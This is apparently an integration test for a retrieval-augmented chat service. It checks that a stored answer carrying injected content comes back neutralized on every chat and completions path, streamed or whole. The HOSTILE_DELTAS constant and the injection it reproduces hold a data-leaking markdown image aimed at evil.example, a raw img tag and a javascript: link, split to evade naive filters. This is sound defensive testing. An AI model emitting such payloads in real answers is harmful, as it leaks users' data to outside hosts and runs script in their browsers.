/**
 * Stored text comes back inert on every answer path, over a real Milvus Lite and the bundled pack: a
 * triple whose answer is the injection (an exfiltrating markdown image, raw HTML, a
 * `javascript:` link) is stored, then its image is asked about on `/v1/chat` and `/v1/chat/completions`,
 * streamed and not, with the offline composer and with the LLM composer (a local OpenAI-compatible
 * server scripted to echo the hostile text, whole and split across deltas at awkward places), and when
 * the LLM fails and the offline answer stands in. No answer holds `![`, `<img`, `javascript:` or a link
 * to a host other than Loupe's; streamed deltas add up to the final answer.
 */
import path from "node:path";
import type { Hono } from "hono";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createApp } from "../../src/app.ts";
import { createSseParser } from "../../src/client/sse.ts";
import type { AppEnv } from "../../src/http/context.ts";
import { createChatModel } from "../../src/llm/chat-model.ts";
import { loadPrompts } from "../../src/llm/prompts.ts";
import { createLogger } from "../../src/logger.ts";
import { ANSWER_PROMPT_ID, ANSWER_PROMPT_VARIABLES, createLlmComposer } from "../../src/rag/llm-composer.ts";
import type { ChatResult } from "../../src/rag/types.ts";
import { assembleServices } from "../../src/services.ts";
import { createRng, deriveSeed, renderScene, sampleScene } from "../../src/synth/index.ts";
import { type OpenAiTestServer, startOpenAiTestServer } from "../helpers/openai-server.ts";
import { type IngestHarness, startIngestHarness } from "../ingest/harness.ts";
import { expectInert, INJECTION } from "./answers-inert.ts";

const ROOT = path.join(import.meta.dirname, "..", "..");

/** What the injection becomes once neutralized: proof the stored answer reached the answer at all. */
const DEFANGED_IMAGE = "x (https[:]//evil.example/leak?d=1)";

/** An LLM answer that echoes the hostile text, split where a naive guard would let it through. */
const HOSTILE_DELTAS = [
  "The shape is !",
  "[x](https://evil",
  ".example/leak?d=1) <",
  "img src=https://evil.example/p.gif> [click](java",
  "script:alert(1)) [att_1] ",
  "<https://evil.example/auto>",
];

interface ChatStream {
  deltas: string[];
  done: ChatResult;
}

async function readChatStream(response: Response): Promise<ChatStream> {
  const parser = createSseParser();
  const messages = [...parser.push(await response.text()), ...parser.end()];
  const deltas = messages
    .filter((message) => message.event === "answer-delta")
    .map((message) => (JSON.parse(message.data) as { text: string }).text);
  const done = messages.find((message) => message.event === "done");
  if (done === undefined) throw new Error(`no done event in ${JSON.stringify(messages).slice(0, 400)}`);
  return { deltas, done: JSON.parse(done.data) as ChatResult };
}

interface CompletionChunk {
  choices: Array<{ delta: { content?: string } }>;
  loupe?: { answer?: string };
}

async function readCompletionStream(response: Response): Promise<{ content: string; final?: string }> {
  const parser = createSseParser();
  const messages = [...parser.push(await response.text()), ...parser.end()];
  let content = "";
  let final: string | undefined;
  for (const message of messages) {
    if (message.data === "[DONE]") continue;
    const chunk = JSON.parse(message.data) as CompletionChunk;
    content += chunk.choices[0]?.delta.content ?? "";
    final = chunk.loupe?.answer ?? final;
  }
  return { content, ...(final === undefined ? {} : { final }) };
}

describe("an injected triple answer on every answer path", () => {
  let harness: IngestHarness;
  let llmServer: OpenAiTestServer;
  let offlineApp: Hono<AppEnv>;
  let llmApp: Hono<AppEnv>;
  let question: string;
  let imageUrl: string;

  beforeAll(async () => {
    harness = await startIngestHarness({ name: "answers" });
    llmServer = await startOpenAiTestServer();
    const logger = createLogger({ level: "silent" });
    const prompts = await loadPrompts({
      dir: path.join(ROOT, "prompts"),
      required: { [ANSWER_PROMPT_ID]: ANSWER_PROMPT_VARIABLES },
    });
    const chatModel = createChatModel({
      model: "test-model",
      baseUrl: llmServer.url,
      apiKey: "test-key",
      timeoutMs: 5000,
      maxRetries: 0,
      temperature: 0,
      maxTokens: 256,
      logger,
    });
    const llm = createLlmComposer({ chatModel, prompts, logger });
    offlineApp = harness.app;
    llmApp = createApp(assembleServices({ ...harness.services, llm, logger }));

    // A scene with a shape it holds once, asked about by color: the stored triple answers that question.
    let picked: { bytes: Buffer; shape: string } | undefined;
    for (let index = 0; picked === undefined && index < 50; index += 1) {
      const scene = sampleScene(createRng(deriveSeed(4242, "scene", index)));
      const counts = new Map<string, number>();
      for (const object of scene.objects) counts.set(object.shape, (counts.get(object.shape) ?? 0) + 1);
      const shape = scene.objects.find((object) => counts.get(object.shape) === 1)?.shape;
      if (shape === undefined) continue;
      const rendered = await renderScene(scene, {
        size: 256,
        format: "png",
        seed: deriveSeed(4242, "r", index),
      });
      picked = { bytes: rendered.data, shape };
    }
    if (picked === undefined) throw new Error("no scene with a single shape of its kind");
    question = `What color is the ${picked.shape}?`;
    imageUrl = `data:image/png;base64,${picked.bytes.toString("base64")}`;

    const stored = await harness.app.request("/v1/triples", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ items: [{ image: imageUrl, question, answer: INJECTION }] }),
    });
    expect(stored.status, await stored.clone().text()).toBe(200);
  }, 300_000);

  afterAll(async () => {
    await llmServer?.close();
    await harness?.dispose();
  });

  const chat = (app: Hono<AppEnv>, body: object) =>
    app.request("/v1/chat", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ question, images: [imageUrl], ...body }),
    });

  const completions = (app: Hono<AppEnv>, body: object) =>
    app.request("/v1/chat/completions", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({
        messages: [
          {
            role: "user",
            content: [
              { type: "text", text: question },
              { type: "image_url", image_url: { url: imageUrl } },
            ],
          },
        ],
        ...body,
      }),
    });

  describe("offline composer", () => {
    it("/v1/chat answers with the stored answer, made inert", async () => {
      const response = await chat(offlineApp, {});
      const result = (await response.json()) as ChatResult;
      expect(response.status, JSON.stringify(result).slice(0, 400)).toBe(200);
      expect(result.composer).toBe("offline");
      expect(
        result.evidence.some((entry) => entry.findings.some((finding) => finding.source === "triple")),
      ).toBe(true);
      expect(result.answer).toContain(DEFANGED_IMAGE);
      expectInert(result.answer);
    });

    it("/v1/chat streamed: the deltas are inert and add up to the answer", async () => {
      const { deltas, done } = await readChatStream(await chat(offlineApp, { stream: true }));
      expect(deltas.join("")).toBe(done.answer);
      expect(done.answer).toContain(DEFANGED_IMAGE);
      for (const delta of deltas) expectInert(delta, { links: false });
      expectInert(done.answer);
    });

    it("/v1/chat/completions, whole and streamed", async () => {
      const response = await completions(offlineApp, { model: "loupe-offline" });
      const body = (await response.json()) as { choices: Array<{ message: { content: string } }> };
      expect(response.status).toBe(200);
      const content = body.choices[0]?.message.content ?? "";
      expect(content).toContain(DEFANGED_IMAGE);
      expectInert(content);

      const streamed = await readCompletionStream(
        await completions(offlineApp, { model: "loupe-offline", stream: true }),
      );
      expect(streamed.content).toBe(content);
      expectInert(streamed.content);
    });

    it("composer offline on a server with an LLM: the same", async () => {
      const result = (await (await chat(llmApp, { composer: "offline" })).json()) as ChatResult;
      expect(result.composer).toBe("offline");
      expect(result.answer).toContain(DEFANGED_IMAGE);
      expectInert(result.answer);
    });
  });

  describe("LLM composer echoing the hostile text", () => {
    it("/v1/chat, whole and streamed in awkward deltas", async () => {
      llmServer.reply({ text: `The shape is ${INJECTION} [att_1].` });
      const whole = (await (await chat(llmApp, {})).json()) as ChatResult;
      expect(whole.composer).toBe("llm");
      expect(whole.answer).toContain(DEFANGED_IMAGE);
      expectInert(whole.answer);

      llmServer.reply({ deltas: HOSTILE_DELTAS });
      const { deltas, done } = await readChatStream(await chat(llmApp, { stream: true }));
      expect(done.composer).toBe("llm");
      expect(deltas.join("")).toBe(done.answer);
      for (const delta of deltas) expectInert(delta, { links: false });
      expectInert(done.answer);
      expect(done.answer).toContain("x (https[:]//evil.example/leak?d=1)");
    });

    it("/v1/chat/completions, whole and streamed", async () => {
      llmServer.reply({ text: INJECTION });
      const response = await completions(llmApp, { model: "loupe" });
      const body = (await response.json()) as {
        loupe: { model: string };
        choices: Array<{ message: { content: string } }>;
      };
      expect(body.loupe.model).toBe("test-model");
      const content = body.choices[0]?.message.content ?? "";
      expectInert(content);
      expect(content).toContain(DEFANGED_IMAGE);

      llmServer.reply({ deltas: HOSTILE_DELTAS });
      const streamed = await readCompletionStream(
        await completions(llmApp, { model: "loupe", stream: true }),
      );
      expectInert(streamed.content);
      expect(streamed.final).toBeUndefined();
    });

    it("when the LLM fails, the offline answer that stands in is inert too", async () => {
      llmServer.reply({ status: 500 });
      const result = (await (await chat(llmApp, {})).json()) as ChatResult;
      expect(result.composer).toBe("offline");
      expect(result.fallback).toBeDefined();
      expect(result.answer).toContain(DEFANGED_IMAGE);
      expectInert(result.answer);

      // Failing after part of a hostile answer: the reset and the offline answer, all inert.
      llmServer.reply({ deltas: HOSTILE_DELTAS, dropAfterDeltas: 3 });
      const streamed = await readCompletionStream(
        await completions(llmApp, { model: "loupe", stream: true }),
      );
      expectInert(streamed.content);
      expectInert(streamed.final ?? "");
    });
  });
});
